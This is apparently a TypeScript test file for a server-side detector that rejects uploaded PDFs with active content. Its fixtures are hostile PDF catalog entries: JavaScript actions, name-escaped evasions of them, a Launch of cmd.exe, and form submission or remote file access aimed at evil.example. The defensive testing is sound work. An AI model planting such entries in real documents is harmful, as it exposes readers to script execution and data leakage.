import { jsPDF } from 'jspdf';
import { describe, expect, it } from 'vitest';
import { isActivePdf } from '#server/sendCart/activePdf.ts';
import { serverTexts } from '#facts/serverTexts.ts';
import { orderBody } from './orderBody.ts';
import { samplePdf } from './samplePdf.ts';
import { nothingStored, storedCounts } from './stored.ts';
import { sendOrder, testServer } from './testServer.ts';

/** The sample with something more in its catalog. */
const withInCatalog = (entry: string) =>
  Buffer.from(
    samplePdf().toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${entry}`),
    'latin1',
  );

describe('a PDF is active', () => {
  it.each([
    ['with a script', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
    ['with a script in disguise', '/OpenAction << /S /J#61v#61Script /JS (app.alert(1)) >>'],
    ['with a script wholly in disguise', '/AA << /O << /S /#4a#61#76#61#53#63#72#69#70#74 >> >>'],
    ['with a tree of scripts', '/Names << /JavaScript 9 0 R >>'],
    ['that starts a program', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
    ['that sends a form', '/AcroForm << /A << /S/SubmitForm/F(https://evil.example) >> >>'],
    ['with a form that has scripts of its own', '/AcroForm << /XFA 5 0 R >>'],
    ['that opens a file elsewhere', '/OpenAction << /S/GoToR /F (//evil.example/share/a) >>'],
    ['with files in it', '/Names<</EmbeddedFiles 9 0 R>>'],
    ['with a film', '/Annots [ << /Subtype /RichMedia >> ]'],
    ['with objects that cannot be looked at', '/X << /Type/ObjStm /N 3 >>'],
  ])('%s', (_, entry) => {
    expect(isActivePdf(withInCatalog(entry))).toBe(true);
  });

  it('also when the name is its last word', () => {
    expect(isActivePdf(Buffer.from('%PDF-1.4 /Launch'))).toBe(true);
  });
});

describe('a PDF is not active', () => {
  it('because it opens at a place, or has names that only begin alike', () => {
    const entry =
      '/OpenAction [3 0 R /FitH null] /JavaScripture 1 /Launch#65d 1 /Relaunch (Launch)';
    expect(isActivePdf(withInCatalog(entry))).toBe(false);
  });

  it('when jsPDF made it, with text and a picture', () => {
    const pdf = new jsPDF({ unit: 'pt', format: 'a4', compress: true });
    pdf.text('Sideline Cart (Launch) #61', 32, 40, { renderingMode: 'invisible' });
    const dot =
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
    pdf.addImage(dot, 'PNG', 0, 0, 10, 10);
    expect(isActivePdf(Buffer.from(pdf.output('arraybuffer')))).toBe(false);
  });

  it('because of noise, nine megabytes of which are looked through in no time', () => {
    const noise = Buffer.alloc(9 * 1024 * 1024);
    let seed = 1;
    for (let at = 0; at < noise.byteLength; at += 1) {
      seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff;
      noise[at] = seed >> 16;
    }
    // Had one of these to be looked at more than a few times, the test would not end in time.
    for (const hostile of [
      noise,
      Buffer.alloc(noise.length, '#61'),
      Buffer.alloc(noise.length, '/#61'),
    ]) {
      expect(isActivePdf(hostile)).toBe(false);
    }
  });
});

it('an order with an active PDF is refused, and nothing stored', async () => {
  const server = await testServer();
  const pdf = withInCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>');
  expect(await sendOrder(server, orderBody({}, pdf))).toMatchObject({
    status: 400,
    body: { error: serverTexts.activePdf },
  });
  expect(await storedCounts(server.dataDir)).toEqual(nothingStored);
});
